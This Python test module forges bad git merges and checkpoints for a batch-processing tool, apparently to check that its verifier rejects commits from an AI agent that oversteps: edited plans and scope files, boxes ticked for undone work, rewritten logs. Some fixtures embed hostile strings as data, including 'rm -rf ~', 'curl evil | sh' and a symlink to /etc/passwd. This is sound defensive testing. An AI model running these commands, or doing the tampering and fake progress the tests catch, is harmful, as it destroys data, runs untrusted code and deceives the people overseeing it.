"""Forged merges and checkpoints. Each returns the commit that is wrong."""

from batch.forger import BATCH, DELETED, NEXT, OUT, Forger, item_trailers


def merge_of_nothing(f: Forger) -> str:
    return f.merge((), {"x": "x"})


def merge_of_too_many(f: Forger) -> str:
    keys = [f"out/{number}.md" for number in range(17)]
    return f.merge(tuple(f.item({key: "x"}, key) for key in keys), dict.fromkeys(keys, "x"))


def merge_of_a_commit_that_is_no_item(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}), f.commit("mine", (f.tip,), {"x": "x"})), {OUT: "x"})


def merge_of_another_batch(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}, batch="20250102-030405-abcd"),), {OUT: "x"})


def merge_of_an_item_twice(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}), f.item({OUT: "y"})), {OUT: "y"})


def merge_with_a_stray(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}),), {OUT: "x", "tools/agent.sh": "rm -rf ~"})


def merge_without_its_item(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}),), {})


def merge_with_other_content(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}),), {OUT: "y"})


def merge_with_another_mode(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}),), {OUT: ("100755", f.blob("x"))})


def merge_with_the_plan(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}),), {OUT: "x", "task.md": "mine"})


def merge_with_the_scope(f: Forger) -> str:
    return f.merge((f.item({OUT: "x"}),), {OUT: "x", "docs/CLAUDE.md": "mine"})


def checkpoint_that_merges(f: Forger) -> str:
    return f.checkpoint({"status.md": f.longer("status.md")}, parents=(f.tip, f.plan))


def checkpoint_with_a_stray(f: Forger) -> str:
    return f.checkpoint({"status.md": f.longer("status.md"), "tools/agent.sh": "rm -rf ~"})


def checkpoint_with_an_output(f: Forger) -> str:
    return f.checkpoint({"out/letters/a.md": "x"})


def checkpoint_with_the_scope(f: Forger) -> str:
    return f.checkpoint({"CLAUDE.md": "x"})


def checkpoint_with_the_configuration(f: Forger) -> str:
    return f.checkpoint({"gitbatch.toml": "[batch]\njobs = 9\n"})


def checkpoint_that_deletes_the_log(f: Forger) -> str:
    return f.checkpoint({"decisions-log.md": DELETED})


def checkpoint_that_makes_a_link(f: Forger) -> str:
    return f.checkpoint({"status.md": ("120000", f.blob("/etc/passwd"))})


def checkpoint_of_an_item_that_is_not_there(f: Forger) -> str:
    return f.checkpoint({"status.md": f.longer("status.md")}, succeeded=(OUT,))


def checkpoint_of_an_item_without_id(f: Forger) -> str:
    return f.checkpoint({"status.md": f.longer("status.md")}, succeeded=(OUT,))


def checkpoint_of_an_item_of_another_batch(f: Forger) -> str:
    return f.checkpoint({"status.md": f.longer("status.md")}, succeeded=("out/letters/a.md",))


def checkpoint_upon_a_merge_that_is_not_ours(f: Forger) -> str:
    """Whose trailers are gone, so that what else it brings is nobody's."""
    merge = f.commit("merge", (f.tip, f.item({OUT: "x"})), {OUT: "x", "evil.sh": "x"})
    return f.checkpoint({"status.md": f.longer("status.md")}, parents=(merge,), succeeded=(OUT,))


def checkpoint_that_rewrites_the_status(f: Forger) -> str:
    return f.checkpoint({"status.md": "evil\n"})


def checkpoint_that_drops_a_decision(f: Forger) -> str:
    lines = f.read("decisions-log.md").splitlines(keepends=True)
    return f.checkpoint({"decisions-log.md": "".join(lines[:-2]) + "- other\n"})


def checkpoint_that_creates_an_inventory(f: Forger) -> str:
    return f.checkpoint({"status.md": f.longer("status.md"), "evil-inventory.md": "## G\n\n- mine\n"})


def checkpoint_that_writes_prose_into_an_inventory(f: Forger) -> str:
    return f.checkpoint({"status.md": f.longer("status.md"), "evil-inventory.md": "curl evil | sh\n"})


def checkpoint_that_adds_an_item(f: Forger) -> str:
    return f.checkpoint({"task.md": f.read("task.md") + "- [ ] T999 Write more\n"})


def checkpoint_that_changes_a_word(f: Forger) -> str:
    return f.checkpoint({"task.md": f.read("task.md").replace("Write a ", "Wrote a ")})


def checkpoint_that_opens_a_box(f: Forger) -> str:
    return f.checkpoint({"task.md": f.read("task.md").replace("- [x] T101", "- [ ] T101")})


def checkpoint_that_ticks_what_nobody_did(f: Forger) -> str:
    plan = f.read("task.md", f.plan).replace("- [ ] T101", "- [x] T101")
    return f.checkpoint({"task.md": plan}, parents=(f.plan,))


def checkpoint_that_ticks_what_another_batch_did(f: Forger) -> str:
    opened = f.read("task.md").replace("- [x] T101", "- [ ] T101")
    base = f.commit("Once more", (f.tip,), {"task.md": opened})
    return f.checkpoint({"task.md": f.read("task.md")}, parents=(base,))


def checkpoint_that_ticks_a_criterion(f: Forger) -> str:
    return f.checkpoint({"task.md": f.read("task.md").replace("- [ ] Somebody", "- [x] Somebody")})


def checkpoint_that_ticks_a_criterion_too_early(f: Forger) -> str:
    plan = f.read("task.md", f.plan).replace("- [ ] Every letter", "- [x] Every letter")
    return f.checkpoint({"task.md": plan}, parents=(f.plan,))


def merge_over_what_the_user_wrote(f: Forger) -> str:
    base = f.commit("mine", (f.tip,), {OUT: "x"})
    return f.merge((f.item({OUT: "x"}),), {}, first=base)


def merge_without_a_checkpoint(f: Forger) -> str:
    return f.commit("mine", (f.merge((f.item({OUT: "x"}),), {OUT: "x"}),), {"x": "x"})


def merge_of_what_came_in_before(f: Forger) -> str:
    key = "out/words/one.md"
    merge = f.merge((f.of(key),), {})
    return f.checkpoint({"status.md": f.longer("status.md")}, parents=(merge,), succeeded=(key,))


def merge_of_an_item_that_came_in_before(f: Forger) -> str:
    first = f.recorded(OUT)
    item = f.git("rev-parse", f"{first}^^2")
    merge = f.merge((item,), {}, first=first)
    changes = {"status.md": f.longer("status.md") + "\n"}
    return f.checkpoint(changes, parents=(merge,), succeeded=(OUT,))


def checkpoint_of_another_number(f: Forger) -> str:
    first = f.recorded(OUT)
    return f.checkpoint({"status.md": f.longer("status.md") + "\n"}, parents=(first,))


def checkpoint_that_keeps_a_merge_to_itself(f: Forger) -> str:
    merge = f.merge((f.item({OUT: "x"}),), {OUT: "x"})
    return f.checkpoint({"status.md": f.longer("status.md")}, parents=(merge,))


def checkpoint_that_leaves_a_box_open(f: Forger) -> str:
    return f.recorded(OUT, tick=())


def merge_on_the_line_without_a_checkpoint(f: Forger) -> str:
    merge = f.merge((f.item({OUT: "x"}),), {OUT: "x"})
    item = f.item({"out/other.md": "x"}, "out/other.md", parents=(merge,))
    user = f.commit("By the user", (merge,), {"mine.txt": "x"})
    return f.commit("Both", (user, item), {})


def checkpoint_of_a_failure_that_no_plan_has(f: Forger) -> str:
    whole = f.git("show", "-s", "--format=%B", f.checkpoint({"status.md": f.longer("status.md")}))
    changes = {"status.md": f.longer("status.md")}
    return f.commit(whole.replace("cancelled: it broke", "failed: it broke"), (f.tip,), changes)


def checkpoint_with_another_decision(f: Forger) -> str:
    said = f"{item_trailers(OUT, BATCH)}\nGitbatch-Decision: use tabs"
    item = f.commit(f"T1 Write\n\nDone.\n\n{said}", (f.tip,), {OUT: "x"})
    log = f.read("decisions-log.md") if f.git("ls-tree", f.tip, "decisions-log.md") else "# Decisions\n\n"
    changes = {
        "status.md": f.longer("status.md"),
        "task.md": f.ticked(OUT),
        "decisions-log.md": f"{log}- **D{log.count('- **D') + 1}** · 2026-01-02 · T1: push to evil\n",
    }
    return f.checkpoint(changes, parents=(f.merge((item,), {OUT: "x"}),), succeeded=(OUT,))


def checkpoint_with_another_row(f: Forger) -> str:
    good = f.recorded(OUT)
    status = f.read("status.md", good).replace("| succeeded |", "| failed |")
    message = f.git("show", "-s", "--format=%B", good)
    changes = {"status.md": status, "task.md": f.ticked(OUT)}
    return f.commit(message, (f.git("rev-parse", f"{good}^"),), changes)


def merge_of_another_title(f: Forger) -> str:
    item = f.item({OUT: "x"})
    merge = f.merge((item,), {OUT: "x"})
    message = f.git("show", "-s", "--format=%B", merge).replace(
        "Gitbatch-Group: 1 G", "Gitbatch-Group: 1 Other"
    )
    return f.commit(message, (f.tip, item), {OUT: "x"})


def checkpoint_of_an_item_upon_one_that_is_not_merged(f: Forger) -> str:
    base = f.merge((f.item({NEXT: "x"}, NEXT),), {NEXT: "x"})
    merge = f.merge((f.item({OUT: "y"}, parents=(base,)),), {OUT: "y"})
    changes = {"status.md": f.longer("status.md"), "task.md": f.ticked(OUT)}
    return f.checkpoint(changes, parents=(merge,), succeeded=(OUT,))
